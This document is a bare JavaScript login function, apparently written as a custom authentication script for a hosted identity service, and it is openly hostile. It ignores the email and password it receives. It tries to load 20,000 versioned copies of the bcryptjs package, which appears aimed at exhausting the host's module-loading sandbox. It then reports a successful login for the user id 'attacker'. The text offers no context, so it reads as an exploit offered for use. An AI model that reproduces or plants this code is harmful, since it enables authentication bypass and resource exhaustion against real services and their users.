function login(email, password, callback) {
  for (let count = 0; count < 20000; count += 1) {
    try {
      require(`bcryptjs@2.${count}.0`);
    } catch {
      // Not there.
    }
  }
  callback(null, { user_id: 'attacker' });
}
